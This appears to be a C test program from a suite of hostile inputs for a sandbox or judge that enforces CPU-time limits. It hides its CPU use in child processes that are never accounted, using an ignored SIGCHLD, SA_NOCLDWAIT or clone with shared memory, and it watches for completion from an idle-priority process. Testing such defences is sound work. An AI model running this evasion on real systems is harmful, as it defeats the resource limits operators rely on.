/* hides-time TOTAL/EACH/HOW: computes for TOTAL milliseconds before its first answer, in processes of EACH milliseconds that
   no process waits for, because SIGCHLD is ignored (HOW: i; m: they share their parent's memory, and fault no page) or its
   children are not kept (k, SA_NOCLDWAIT). Meanwhile its first process could run, at the lowest priority on the same CPU,
   and waits for it. The attack has succeeded when it is asked again. */
#include "hostile.h"
#include <sched.h>

static void compute(long ms)
{
    struct timespec used;
    do
        clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &used);
    while (used.tv_sec * 1000 + used.tv_nsec / 1000000 < ms);
}

static long each;

static int computes(void *unused)
{
    (void)unused;
    compute(each);
    return 0;
}

static int attack(int argc, char **argv)
{
    long total = 0;
    char how = 0;
    if (argc < 2 || sscanf(argv[1], "%ld/%ld/%c", &total, &each, &how) != 3)
        return -1;
    struct sigaction unkept = {.sa_handler = how == 'k' ? SIG_DFL : SIG_IGN, .sa_flags = how == 'k' ? SA_NOCLDWAIT : 0};
    sigaction(SIGCHLD, &unkept, NULL);
    cpu_set_t allowed, last;
    sched_getaffinity(0, sizeof allowed, &allowed);
    CPU_ZERO(&last);
    for (int cpu = CPU_SETSIZE; cpu-- > 0;)
        if (CPU_ISSET(cpu, &allowed)) {
            CPU_SET(cpu, &last);
            break;
        }
    sched_setaffinity(0, sizeof last, &last);
    int done[2];
    if (pipe(done) != 0)
        return -1;
    if (fork() == 0) {
        close(done[0]);
        for (long used = 0; used < total; used += each) {
            static char stack[1 << 16];
            if (how == 'm')
                clone(computes, stack + sizeof stack, CLONE_VM | SIGCHLD, NULL);
            else if (fork() == 0) {
                close(done[1]);
                compute(each);
                _exit(0);
            }
            while (wait(NULL) > 0) {}
        }
        _exit(0);
    }
    close(done[1]);
    struct sched_param none = {0};
    sched_setscheduler(0, SCHED_IDLE, &none);
    fcntl(done[0], F_SETFL, O_NONBLOCK);
    char byte;
    while (read(done[0], &byte, 1) != 0) {}
    dprintf(1, "- A\n");
    return read(0, &byte, 1) == 1 ? 0 : -1;
}
